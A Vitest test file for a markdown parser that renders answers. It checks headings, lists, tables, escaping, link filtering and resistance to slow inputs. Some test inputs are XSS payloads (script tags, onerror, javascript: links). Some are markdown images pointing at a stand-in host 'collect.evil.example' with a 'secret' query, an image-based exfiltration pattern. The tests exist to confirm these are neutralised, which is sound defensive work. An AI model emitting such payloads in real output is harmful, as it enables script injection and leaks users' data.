import { describe, expect, it } from "vitest";
import { parseBlocks, parseInline } from "./parse-markdown.ts";

describe("the markdown of answers", () => {
  it("knows paragraphs, headings, lists, code and tables", () => {
    const text =
      "# Title\n\nWords\nmore\n\n- one\n- two\n  deeper\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | x \\| y |";
    expect(parseBlocks(text)).toEqual([
      { type: "heading", level: 1, text: "Title" },
      { type: "paragraph", text: "Words\nmore" },
      { type: "list", ordered: false, start: 1, items: [{ text: "one" }, { text: "two\ndeeper" }] },
      { type: "code", text: "let a = 1;", language: "js" },
      { type: "table", head: ["a", "b"], rows: [["1", "x | y"]] },
    ]);
  });

  it("shows code as code while it is still being written", () => {
    expect(parseBlocks("```\nhalf")).toEqual([{ type: "code", text: "half", language: "" }]);
  });

  it("knows lists in lists, quotes and rules", () => {
    expect(parseBlocks("3. a\n   - b\n   - c\n4. d\n\n> said\n> - so\n\n---")).toEqual([
      {
        type: "list",
        ordered: true,
        start: 3,
        items: [
          { text: "a", inner: { ordered: false, start: 1, items: [{ text: "b" }, { text: "c" }] } },
          { text: "d" },
        ],
      },
      {
        type: "quote",
        blocks: [
          { type: "paragraph", text: "said" },
          { type: "list", ordered: false, start: 1, items: [{ text: "so" }] },
        ],
      },
      { type: "rule" },
    ]);
  });

  it("takes a mark behind a backslash as a letter", () => {
    const parts = parseInline(String.raw`\*not strong\* \[no\](https://x.example)`);
    expect(parts.map((part) => part.text).join("")).toBe("*not strong* [no](https://x.example)");
    expect(parts.some((part) => part.type === "strong" || part.type === "emphasis")).toBe(false);
  });

  it.each(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;"])(
    "leaves HTML as text: %s",
    (text) => {
      expect(parseBlocks(text)).toEqual([{ type: "paragraph", text }]);
      expect(parseInline(text).every((part) => part.type === "text")).toBe(true);
    },
  );

  it("makes links of http addresses only", () => {
    expect(
      parseInline("[a](https://x.example) [b](javascript:alert(1)) [c](data:text/html,x)").filter(
        (one) => one.type === "link",
      ),
    ).toEqual([{ type: "link", text: "a", href: "https://x.example" }]);
  });

  it("takes a bare address without the stop behind it", () => {
    expect(parseInline("See https://x.example/a.")).toContainEqual({
      type: "link",
      text: "https://x.example/a",
      href: "https://x.example/a",
    });
  });

  it("leaves snake_case and 2 * 3 * 4 alone", () => {
    expect(parseInline("a snake_case_name and 2 * 3 * 4")).toEqual([
      { type: "text", text: "a snake_case_name and 2 * 3 * 4" },
    ]);
  });

  it("reads a line of a million characters made to be slow", () => {
    for (const piece of ["[", "*a", "`", "|", "_", "[a](", "- ", "> ", "  - ", "\\\\"]) {
      const text = piece.repeat(300_000);
      expect(parseBlocks(text).length).toBeGreaterThan(0);
      expect(parseInline(text).length).toBeGreaterThan(0);
    }
  });
});

it.each([
  ["![chart](https://collect.evil.example/?d=secret)", "[image: chart, at collect.evil.example, not loaded]"],
  ["![](https://collect.evil.example/pixel.png)", "[image, at collect.evil.example, not loaded]"],
  ["![x](data:image/png;base64,AAAA)", "[image: x, not loaded]"],
])("tells of an image and makes neither an image nor a link of it: %s", (text, shown) => {
  expect(parseInline(text)).toEqual([{ type: "text", text: shown }]);
});

it("reads a text of nothing but fences in one go", () => {
  // Looking for each one's end from the top took minutes.
  expect(parseBlocks("```\n".repeat(300_000))).toHaveLength(150_000);
});
